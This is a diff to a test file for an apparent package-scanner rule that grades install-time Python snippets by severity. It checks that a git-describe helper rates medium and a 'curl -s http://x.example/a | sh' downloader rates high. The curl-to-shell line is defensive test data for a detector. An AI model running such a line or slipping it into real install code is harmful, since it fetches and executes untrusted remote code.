@@ -96,12 +96,12 @@ describe('install-time-process weighs the command', () => {
   it('is medium for a build helper inside a function', () => {
     expect(
       severityOf(
-        'import subprocess\ndef version():\n    return subprocess.check_output(["git", "describe"])\n',
+        'import subprocess\ndef version():\n    return subprocess.check_output(["git", "describe"])\nversion()\n',
       ),
     ).toBe('medium');
   });
   it('is high for a downloader, even inside a function', () => {
-    expect(severityOf('import os\ndef f():\n    os.system("curl -s http://x.example/a | sh")\n')).toBe(
+    expect(severityOf('import os\ndef f():\n    os.system("curl -s http://x.example/a | sh")\nf()\n')).toBe(
       'high',
     );
   });
